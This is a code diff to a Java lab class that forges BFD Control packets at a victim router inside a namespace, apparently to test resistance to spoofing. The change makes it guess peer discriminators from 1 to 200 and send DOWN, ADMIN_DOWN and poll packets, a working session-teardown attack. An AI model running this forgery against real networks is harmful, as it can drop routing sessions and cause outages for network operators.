@@ -13,13 +13,13 @@ import dev.culvert.tun.BfdTransmitter;
 import java.util.concurrent.locks.LockSupport;
 
 /**
- * Sends BFD Control packets as anybody on a link can who knows two addresses, with TTL 255 and no
- * discriminator of either router. Runs itself as a program inside a namespace.
+ * Sends BFD Control packets as anybody on a link can who knows two addresses, with TTL 255, not
+ * knowing the victim's discriminator and guessing the peer's from 1 up, as some routers number
+ * their sessions. Runs itself as a program inside a namespace.
  */
 final class BfdLabForgery {
   private static final int PACKETS_OF_EACH = 200;
   private static final long PAUSE_NANOS = 10_000_000;
-  private static final int DISCRIMINATOR = 0x0bad_cafe;
 
   private BfdLabForgery() {}
 
@@ -33,10 +33,10 @@ final class BfdLabForgery {
     IpAddress victim = Ipv4Address.of(arguments[2]);
     try (BfdTransmitter transmitter =
         BfdTransmitter.open(InterfaceName.of(arguments[0] + ".0"), Ipv4Address.of(arguments[1]))) {
-      for (int i = 0; i < PACKETS_OF_EACH; i++) {
-        send(transmitter, victim, packet(BfdState.DOWN, 1_000_000, false));
-        send(transmitter, victim, packet(BfdState.ADMIN_DOWN, 1_000_000, false));
-        send(transmitter, victim, packet(BfdState.DOWN, 0, true));
+      for (int i = 1; i <= PACKETS_OF_EACH; i++) {
+        send(transmitter, victim, packet(BfdState.DOWN, i, 1_000_000, false));
+        send(transmitter, victim, packet(BfdState.ADMIN_DOWN, i, 1_000_000, false));
+        send(transmitter, victim, packet(BfdState.DOWN, i, 0, true));
         LockSupport.parkNanos(PAUSE_NANOS);
       }
     }
@@ -48,7 +48,8 @@ final class BfdLabForgery {
     }
   }
 
-  private static Octets packet(BfdState state, long requiredMinRxMicros, boolean poll) {
+  private static Octets packet(
+      BfdState state, int myDiscriminator, long requiredMinRxMicros, boolean poll) {
     return new ControlPacket(
             BfdDiagnostic.NONE,
             state,
@@ -58,7 +59,7 @@ final class BfdLabForgery {
             false,
             false,
             3,
-            DISCRIMINATOR,
+            myDiscriminator,
             0,
             1_000_000,
             requiredMinRxMicros,
